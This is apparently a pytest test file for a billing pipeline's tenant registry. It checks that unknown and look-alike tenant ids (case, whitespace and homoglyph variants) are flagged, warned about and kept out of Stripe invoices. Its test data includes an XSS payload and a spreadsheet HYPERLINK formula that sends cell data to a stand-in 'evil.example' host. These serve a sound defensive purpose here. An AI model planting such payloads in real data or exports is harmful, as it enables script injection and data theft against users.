"""The tenant registry: only known tenants are invoiced; unknown ids and look-alikes keep their cost, are marked in
`tenant_registry`, named in a WARN check and held out of Stripe. The issue's attack values are the test data."""

from __future__ import annotations

import json

import boto3
import duckdb
import pytest
from dagster import AssetKey, DagsterInstance, materialize

from billing_pipeline.definitions import defs
from billing_pipeline.resources.stripe_billing import StripeBilling
from billing_pipeline.resources.tenant_registry import (
    Registry,
    TenantRegistry,
    TenantRegistryError,
    id_skeleton,
)
from billing_pipeline_tests.stripe_support import PRICE_LIST, expected_cents, sums

KNOWN = frozenset({"acct-0001", "acct-0002", "acct-0003", "acct-0004"})
IMG = "<img src=x onerror=alert(1)>"
FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"acct-0001")'
ATTACKS = ["acct-0001 ", "ACCT-0001", "acct\u20100001", "total", IMG, FORMULA]


def test_attack_values_are_named_as_lookalikes_or_unknown():
    registry = Registry(KNOWN, "test")
    assert {value: registry.classify(value) for value in [*ATTACKS, "unattributed", "acct-0002"]} == {
        "acct-0001 ": ("lookalike", "acct-0001"),
        "ACCT-0001": ("lookalike", "acct-0001"),
        "acct\u20100001": ("lookalike", "acct-0001"),
        "total": ("unknown", None),
        IMG: ("unknown", None),
        FORMULA: ("unknown", None),
        "unattributed": ("unattributed", None),
        "acct-0002": ("known", None),
    }
    # NFKC (fullwidth digits), a zero-width space, a Cyrillic 'а' and a non-breaking space read as the real id too
    for value in ["acct-０００１", "acct-00\u200b01", "\u0430cct-0001", "\u00a0acct-0001"]:
        assert id_skeleton(value) == "acct-0001" and registry.classify(value) == ("lookalike", "acct-0001")
    assert registry.classify("acct-0005") == ("unknown", None)


def test_registry_from_a_file_lines_or_json(tmp_path):
    lines = tmp_path / "tenants.txt"
    lines.write_text("# tenants\nacct-0001\n\nacct-0002\n")
    assert TenantRegistry(source=str(lines)).load(None) == Registry(frozenset({"acct-0001", "acct-0002"}), str(lines))
    as_json = tmp_path / "tenants.json"
    as_json.write_text(json.dumps(["acct-0003"]))
    assert TenantRegistry(source=str(as_json)).load(None).known == {"acct-0003"}


def test_a_registry_saved_with_a_byte_order_mark_reads_as_its_ids(tmp_path):
    """Windows editors and PowerShell 5's `Out-File -Encoding utf8` start a file with U+FEFF: a JSON array was read
    as lines and refused ("line 1: '\\ufeff[\"acct-0001\", ...' contains control or format characters"), and a
    one-id-per-line file refused its first tenant. The mark is the encoding's, not the first id's."""
    lines = tmp_path / "tenants.txt"
    lines.write_bytes("\ufeffacct-0001\r\nacct-0002\r\n".encode("utf-8"))
    assert TenantRegistry(source=str(lines)).load(None).known == {"acct-0001", "acct-0002"}
    as_json = tmp_path / "tenants.json"
    as_json.write_bytes("\ufeff".encode("utf-8") + json.dumps(["acct-0003", "acct-0004"]).encode("utf-8"))
    assert TenantRegistry(source=str(as_json)).load(None).known == {"acct-0003", "acct-0004"}
    inside = tmp_path / "inside.txt"  # a mark anywhere else is still a format character in an id
    inside.write_bytes("acct-0001\n\ufeffacct-0002\n".encode("utf-8"))
    with pytest.raises(TenantRegistryError, match="line 2: .* contains control or format characters"):
        TenantRegistry(source=str(inside)).load(None)


def test_malformed_registry_fails_naming_the_file_and_line(tmp_path, monkeypatch):
    bad = tmp_path / "tenants.txt"
    bad.write_text("acct-0001\nacct-0002 \ntotal\nUnknown\n")
    monkeypatch.setenv("BILLING_TENANTS", str(bad))
    with pytest.raises(TenantRegistryError) as error:
        TenantRegistry().load(None)
    # any case: `Unknown` would be a tenant beside the statements' `unknown` row, and a tag `TOTAL` is read as the
    # reserved word (its cost unattributed), so a tenant registered as `TOTAL` would never be charged its own cost
    assert str(error.value) == (f"Tenant registry {bad}: line 2: 'acct-0002 ' has surrounding whitespace; "
                                "line 3: 'total' is a reserved word of the warehouse, not a tenant; "
                                "line 4: 'Unknown' is a reserved word of the warehouse, not a tenant")
    with pytest.raises(TenantRegistryError, match=r"missing\.txt: cannot read it"):
        TenantRegistry(source=str(tmp_path / "missing.txt")).load(None)
    empty = tmp_path / "empty.json"
    empty.write_text("[]")
    with pytest.raises(TenantRegistryError, match=r"empty\.json: no tenant ids in it"):
        TenantRegistry(source=str(empty)).load(None)


def test_ids_that_read_the_same_are_never_both_tenants(tmp_path, warehouse_con):
    """`ACCT-0001` beside `acct-0001`: a registry file holding both fails naming them; the default registry (the
    usage table's ids) holds both out as look-alikes of each other (it made `ACCT-0001` a second customer, charged
    its own minimum fee)."""
    both = tmp_path / "tenants.txt"
    both.write_text("acct-0001\nACCT-0001\nacct-0002\n")
    with pytest.raises(TenantRegistryError) as error:
        TenantRegistry(source=str(both)).load(None)
    assert str(error.value) == (f"Tenant registry {both}: 'ACCT-0001' and 'acct-0001' read the same (case, "
                                "whitespace or look-alike characters): keep the tenant's own")
    for accountant in ("acct-0001", "ACCT-0001", "acct\u20100001", "acct-0002"):
        warehouse_con.execute("INSERT INTO estimated_usage (billing_period, accountant_id, resource_type, usage_date, "
                              "estimated_cost, records) VALUES ('2026-01-01', ?, 'lambda', '2026-01-01', 1, 1)",
                              [accountant])
    registry = TenantRegistry().load(warehouse_con)
    assert registry.known == {"acct-0002"}
    assert {a: registry.classify(a) for a in ("acct-0001", "ACCT-0001", "acct\u20100001")} == {
        "acct-0001": ("lookalike", "ACCT-0001"), "ACCT-0001": ("lookalike", "acct-0001"),
        "acct\u20100001": ("lookalike", "ACCT-0001")}


def test_registry_from_s3_and_dynamodb(aws):
    s3 = boto3.client("s3", endpoint_url=aws)
    s3.create_bucket(Bucket="billing-config")
    s3.put_object(Bucket="billing-config", Key="tenants.txt", Body=b"acct-0001\nacct-0002\n")
    assert TenantRegistry(source="s3://billing-config/tenants.txt").load(None).known == {"acct-0001", "acct-0002"}

    dynamodb = boto3.client("dynamodb", endpoint_url=aws)
    dynamodb.create_table(TableName="tenants", BillingMode="PAY_PER_REQUEST",
                          KeySchema=[{"AttributeName": "accountant_id", "KeyType": "HASH"}],
                          AttributeDefinitions=[{"AttributeName": "accountant_id", "AttributeType": "S"}])
    for accountant in ["acct-0001", "acct-0003"]:
        dynamodb.put_item(TableName="tenants", Item={"accountant_id": {"S": accountant}, "plan": {"S": "pro"}})
    assert TenantRegistry(source="dynamodb://tenants").load(None).known == {"acct-0001", "acct-0003"}
    with pytest.raises(TenantRegistryError, match="dynamodb://absent: cannot scan absent"):
        TenantRegistry(source="dynamodb://absent").load(None)


def plant_attacks(warehouse):
    """Cost tagged with each attack value: a copy of one of acct-0001's direct rows each, 1.2345 USD apiece, and a
    resource tagged `unattributed`."""
    with duckdb.connect(str(warehouse)) as con:
        for value in [*ATTACKS, "unattributed"]:
            con.execute("""INSERT INTO tenant_costs SELECT * REPLACE (? AS accountant_id, 'direct' AS allocation,
                                                                       CAST(1.2345 AS DECIMAL(38, 10)) AS cost)
                           FROM tenant_costs WHERE accountant_id = 'acct-0001' AND resource_type = 'lambda'
                           LIMIT 1""", [value])


def run(selection):
    resources = {**defs.resources, "stripe_billing": StripeBilling(max_network_retries=0)}
    return materialize(list(defs.assets), selection=[AssetKey(s) for s in selection], resources=resources,
                       partition_key="2026-01-01", instance=DagsterInstance.ephemeral())


def test_unknown_ids_are_marked_warned_and_never_charged(env):
    sample, warehouse, stripe_api = env
    plant_attacks(warehouse)
    result = run(["tenant_registry", "invoices"])

    # Stripe: exactly the real tenants, exactly their charges (the planted cost was not theirs to pay either)
    assert sorted(stripe_api.customers()) == sorted(sample.tenants) == sorted(KNOWN)
    assert sums(stripe_api.items()) == expected_cents(sample.expected_actuals, PRICE_LIST)

    with duckdb.connect(str(warehouse), read_only=True) as con:
        marked = con.execute("""SELECT accountant_id, status, looks_like, cost, tagged_cost FROM tenant_registry
                                WHERE status <> 'known' ORDER BY accountant_id""").fetchall()
        known = con.execute("SELECT count(*) FROM tenant_registry WHERE status = 'known'").fetchone()[0]
        kept = con.execute("SELECT count(*) FROM tenant_costs WHERE cost = 1.2345").fetchone()[0]
    assert known == 4 and kept == 7  # the planted cost is kept under the ids it was tagged with
    by_id = {a: (s, like, str(c), str(t)) for a, s, like, c, t in marked}
    one = "1.2345000000"
    for value in ["acct-0001 ", "ACCT-0001", "acct\u20100001"]:
        assert by_id[value] == ("lookalike", "acct-0001", one, one)
    for value in ["total", IMG, FORMULA]:
        assert by_id[value] == ("unknown", None, one, one)
    assert by_id["unattributed"][0] == "unattributed" and by_id["unattributed"][3] == one

    (check,) = [c for c in result.get_asset_check_evaluations() if c.check_name == "tenants_are_known"]
    assert not check.passed and check.severity.value == "WARN"
    assert sorted(check.metadata["unknown_tenants"].value) == sorted([
        "'acct-0001 ' looks like 'acct-0001' (U+0020 SPACE)",
        "'ACCT-0001' looks like 'acct-0001'",
        "'acct\u20100001' looks like 'acct-0001' (U+2010 HYPHEN)",
        "'total' is not in the tenant registry",
        "'<img src=x onerror=alert(1)>' is not in the tenant registry (U+0020 SPACE)",
        '\'=HYPERLINK("https://evil.example/?x="&A1,"acct-0001")\' is not in the tenant registry',
    ])
    assert check.metadata["held_out_cost"].value == {"USD": "7.4070000000"}
    assert check.metadata["tagged_unattributed"].value == ["1.2345000000 USD"]

    invoices_metadata = result.asset_materializations_for_node("invoices")[0].metadata
    assert len(invoices_metadata["held_out_tenants"].value) == 6


def test_tenants_check_passes_on_a_clean_month(env):
    result = run(["tenant_registry"])
    (check,) = result.get_asset_check_evaluations()
    assert check.passed and check.metadata["unknown_tenants"].value == []


def test_an_explicit_registry_holds_out_a_real_looking_tenant(env, tmp_path, monkeypatch):
    """BILLING_TENANTS without acct-0004: its cost is not invoiced (even though ingestion passed it)."""
    sample, _, stripe_api = env
    registry = tmp_path / "tenants.txt"
    registry.write_text("acct-0001\nacct-0002\nacct-0003\n")
    monkeypatch.setenv("BILLING_TENANTS", str(registry))
    run(["invoices"])
    expected = {k: v for k, v in expected_cents(sample.expected_actuals, PRICE_LIST).items() if k[0] != "acct-0004"}
    assert sorted(stripe_api.customers()) == ["acct-0001", "acct-0002", "acct-0003"]
    assert sums(stripe_api.items()) == expected


def test_a_wrong_registry_uri_fails_before_any_step(env, monkeypatch):
    _, _, stripe_api = env
    monkeypatch.setenv("BILLING_TENANTS", "/nonexistent/tenants.txt")
    result = materialize(
        list(defs.assets), selection=[AssetKey("tenant_registry"), AssetKey("invoices")],
        resources={**defs.resources, "stripe_billing": StripeBilling(max_network_retries=0)},
        partition_key="2026-01-01", instance=DagsterInstance.ephemeral(), raise_on_error=False)
    assert not result.success and result.get_step_success_events() == []
    assert ("BILLING_TENANTS='/nonexistent/tenants.txt' (set): the file /nonexistent/tenants.txt does not exist"
            in str(next(e for e in result.all_events if e.is_failure).event_specific_data.error))
    assert stripe_api.customers() == {}
